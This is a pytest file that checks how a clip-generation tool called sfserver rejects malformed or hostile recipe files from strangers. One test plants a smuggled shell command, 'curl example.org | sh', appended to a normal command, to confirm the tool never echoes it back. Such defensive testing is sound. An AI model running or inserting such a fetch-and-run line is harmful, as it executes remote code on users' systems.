"""Recipes of strangers: one line that says what is wrong with them, at once, and nothing of theirs to type."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from dissolving_engine import DissolvingEngine
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from sfserver.cli import USER_ERROR, main
from sfserver.clip import recipe as recipes


@pytest.fixture
def made(engine: DissolvingEngine, pair, tmp_path: Path) -> dict[str, object]:
    """A recipe that can be followed."""
    assert main(["generate", *pair, "--frames", "5", "--out", str(tmp_path / "clip")]) == 0
    return json.loads((tmp_path / "clip" / "recipe.json").read_text())


def follow(table: dict[str, object], folder: Path) -> int:
    (folder / "theirs.json").write_text(json.dumps(table))
    return main(["generate", "--recipe", str(folder / "theirs.json"), "--out", str(folder / "out")])


def named(table: dict[str, object], file: str) -> dict[str, object]:
    """With another name for the first picture."""
    first, last = table["keyframes"]  # type: ignore[misc]
    return table | {"keyframes": [{**first, "file": file}, last]}  # type: ignore[dict-item]


def copies(table: dict[str, object], count: int, last: int = 999) -> dict[str, object]:
    """With the first picture at so many frames, and the last one at `last`."""
    first, end = table["keyframes"]  # type: ignore[misc]
    many = [{**first, "at": at} for at in range(count)]  # type: ignore[dict-item]
    return table | {"num_frames": last + 1, "keyframes": [*many, {**end, "at": last}]}  # type: ignore[dict-item]


def test_the_control_as_it_is_it_is_followed(made: dict[str, object], tmp_path: Path) -> None:
    assert follow(made, tmp_path) == 0


@pytest.mark.parametrize(
    ("changed", "sentence"),
    [
        pytest.param(lambda r: r | {"fps": "1e99999999"}, "is no rate", id="a rate that takes hours to work out"),
        pytest.param(lambda r: named(r, "a\0b.png"), "no name of a file", id="a zero in a name"),
        pytest.param(lambda r: named(r, "\ud800.png"), "no name of a file", id="half a character in a name"),
        pytest.param(lambda r: named(r, "a" * 300), "file name too long", id="a name without end"),
        pytest.param(lambda r: copies(r, 40), "at most 22", id="a picture at each frame"),
        pytest.param(lambda r: copies(r, 2, last=10**6), "at most 1000", id="a million frames"),
    ],
)
def test_what_cannot_be_meant_is_one_line(changed, sentence: str, made, tmp_path: Path, capsys) -> None:
    capsys.readouterr()
    assert follow(changed(made), tmp_path) == USER_ERROR
    (line,) = capsys.readouterr().err.splitlines()
    assert sentence in line
    assert not (tmp_path / "out").exists()


def test_no_picture_is_opened_before_their_number_is_known(
    made: dict[str, object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A few bytes of recipe could name a picture of 200 MB a thousand times."""
    opened: list[Path] = []
    monkeypatch.setattr("sfserver.clip.planning.read_picture", opened.append)
    assert follow(copies(made, 40), tmp_path) == USER_ERROR
    assert not opened


def test_the_command_that_is_proposed_is_never_theirs(made: dict[str, object], tmp_path: Path, capsys) -> None:
    theirs = "sfserver generate a.png b.png; curl example.org | sh"
    assert follow(made | {"engine_version": "another", "command": theirs}, tmp_path) == USER_ERROR
    said = capsys.readouterr().err
    assert "curl" not in said
    assert "the same without a promise: sfserver generate " in said


@pytest.mark.skipif(os.name == "nt", reason="pipes with names")
def test_a_pipe_is_not_waited_for(tmp_path: Path, capsys) -> None:
    os.mkfifo(tmp_path / "recipe.json")
    assert main(["generate", "--recipe", str(tmp_path / "recipe.json"), "--out", str(tmp_path / "out")]) == USER_ERROR
    assert "not a plain file" in capsys.readouterr().err


def test_a_text_without_end_in_a_picture_is_no_recipe(made: dict[str, object], tmp_path: Path) -> None:
    def carrier(prompt: str) -> Path:
        info = PngInfo()
        info.add_text(recipes.TAG, json.dumps(made | {"prompt": prompt}), zip=True)
        Image.new("RGB", (8, 8)).save(tmp_path / "carrier.png", pnginfo=info)
        return tmp_path / "carrier.png"

    assert recipes.read(carrier("a" * 1000)).prompt == "a" * 1000
    with pytest.raises(recipes.RecipeError, match="carries no recipe"):
        recipes.read(carrier("a" * 500_000))
